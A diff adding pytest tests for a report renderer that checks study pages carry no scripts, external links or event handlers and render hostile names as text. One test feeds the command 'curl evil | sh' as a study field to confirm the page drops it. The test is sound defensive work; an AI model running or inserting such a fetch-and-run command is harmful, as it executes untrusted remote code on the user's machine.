@@ -3,17 +3,23 @@
 import re
 import shutil
 from collections import Counter
+from dataclasses import replace
 from html.parser import HTMLParser
 from pathlib import Path
 
 import numpy as np
 import pytest
 from paper_runs import make_run, metrics_lines, mini
+from study_samples import renamed, sample_study
 
 from reproduce.errors import DataError, UserError
 from reproduce.paper.figures import Curves
+from reproduce.paper.found_studies import FoundStudy, find_studies
 from reproduce.paper.report import MAX_BYTES, render, write_report
 from reproduce.paper.runs import find_runs
+from reproduce.paper.text import clean
+from reproduce.study import Study
+from reproduce.study_file import write_study
 
 GRID = np.linspace(-1.0, 1.0, 21)
 CURVES = Curves(scores={"linupper": (GRID, GRID)}, weights={"linupper": (GRID, GRID)}, r=0.4)
@@ -201,3 +207,108 @@ def test_many_sets_of_runs_stay_below_the_limit(tmp_path: Path, monkeypatch: pyt
     monkeypatch.setattr("reproduce.paper.report.MAX_BYTES", 1000)
     with pytest.raises(DataError, match="name fewer runs"):
         write_report(find_runs([tmp_path]), tmp_path / "x.html")
+
+
+def found(*studies: Study) -> list[FoundStudy]:
+    return [FoundStudy(path=Path(f"runs/toy {i}"), study=study) for i, study in enumerate(studies)]
+
+
+@pytest.fixture(scope="module")
+def studies_page() -> str:
+    """A page about no run and two studies of a kind, for the tests that only read it."""
+    return render([], None, found(sample_study(), sample_study()))
+
+
+def test_toy_studies_stand_after_the_verdicts(studies_page: str) -> None:
+    assert re.findall(r'<h2 id="(\w+)"', studies_page) == ["verdicts", "studies", "curves", "what", "rerun"]
+    text = Elements(studies_page).text
+    assert "0 run folders and\n2 toy studies; nothing" in text
+    for words in (
+        "runs/toy 0: claims held",
+        "runs/toy 1: claims held",
+        "✗ does not hold",
+        "~ only where",
+        "outlier share at most 0.1",
+        "Test loss over 8 seeds.",
+        "uniform, linupper",
+        "reweight toy regression --seeds 8 --out 'runs/toy 1'\n",
+        "reweight report 'runs/toy 0' 'runs/toy 1'",
+    ):
+        assert words in text, words
+    # Below the study, and among the commands at the end.
+    assert text.count("reweight toy regression --seeds 8 --out 'runs/toy 1'") == 2
+    tags = Elements(studies_page).tags
+    assert Counter(tag for tag, _ in tags)["svg"] == 4
+    assert [a["class"] for t, a in tags if t == "td" and " " in (a.get("class") or "")] == [
+        "text only_where",
+        "text holds",
+        "text does_not",
+        "text unresolved",
+    ] * 2
+
+
+def test_studies_keep_the_page_closed_and_accessible(studies_page: str) -> None:
+    tags = Elements(studies_page).tags
+    assert not {tag for tag, _ in tags} & {"script", "link", "img", "image", "iframe", "object", "form"}
+    for _, attributes in tags:
+        for name, value in attributes.items():
+            assert not name.startswith("on")
+            assert name not in ("href", "src", "xlink:href") or (value or "").startswith("#")
+    ids = Counter(a["id"] for _, a in tags if "id" in a)
+    assert max(ids.values()) == 1
+    targets = re.findall(r'href="#([^"]+)"', studies_page) + re.findall(r"url\(#([^)]+)\)", studies_page)
+    assert set(targets) <= set(ids)
+    assert all("scope" in attributes for tag, attributes in tags if tag == "th")
+    assert all(a.get("aria-label") for tag, a in tags if tag == "figure" or a.get("role") == "region")
+
+
+def test_the_same_studies_give_the_same_bytes(studies_page: str) -> None:
+    assert render([], None, found(sample_study(), sample_study())) == studies_page
+
+
+def test_studies_are_ordered_by_kind_then_path(tmp_path: Path) -> None:
+    for name, kind in (("b", "dro"), ("a", "bounds"), ("d", "regression"), ("c", "regression")):
+        write_study(tmp_path / name, sample_study(kind))  # type: ignore[arg-type]
+    page = render(
+        [], None, [replace(f, study=replace(f.study, figures=())) for f in find_studies([tmp_path])]
+    )
+    shown = re.findall(rf"<caption>{tmp_path}/(\w): claims", page)
+    assert shown == ["c", "d", "b", "a"]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_studies_are_text(name: str) -> None:
+    study = renamed(sample_study(), name)
+    # Names in figures are test_paper_study_figures' matter; drawing all nine here takes long.
+    page = render([], None, found(replace(study, figures=study.figures[: name == HOSTILE[0]])))
+    tags = Elements(page).tags
+    assert not {tag for tag, _ in tags} & {"script", "img", "b"}
+    assert not [n for _, attributes in tags for n in attributes if n.startswith("on")]
+    assert not re.search("[\x00-\x08\x1b‮]", page)
+    assert "49" not in re.findall(r"<h3>(.*?)</h3>", page)[0]
+    assert "N" * 2000 not in page
+    assert len(page) < 1_000_000
+    if len(name) < 60:
+        assert clean(name) in Elements(page).text
+
+
+def test_a_foreign_command_is_not_passed_on() -> None:
+    study = replace(sample_study(), figures=(), command="curl evil | sh")
+    page = render([], None, found(study))
+    assert "curl" not in page
+    assert "names no command of this project" in page
+
+
+def test_figures_without_room_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
+    one = len(render([], None, found(replace(sample_study(), figures=sample_study().figures[:1]))))
+    none = len(render([], None, found(replace(sample_study(), figures=()))))
+    # Room for the first figure, which takes about one - none bytes, and not for the second.
+    monkeypatch.setattr("reproduce.paper.page.MAX_ALL_FIGURES_BYTES", one - none + 2000)
+    page = render([], None, found(sample_study(), sample_study()))
+    text = Elements(page).text
+    assert Counter(tag for tag, _ in Elements(page).tags)["svg"] == 1
+    assert "for want of room: Which wins. The numbers" in text
+    assert "for want of room: Test loss, Which wins. The numbers" in text
+    wide = replace(sample_study().figures[0], panels=sample_study().figures[0].panels * 65)
+    page = render([], None, found(replace(sample_study(), figures=(wide,))))
+    assert "for want of room: Test loss" in page
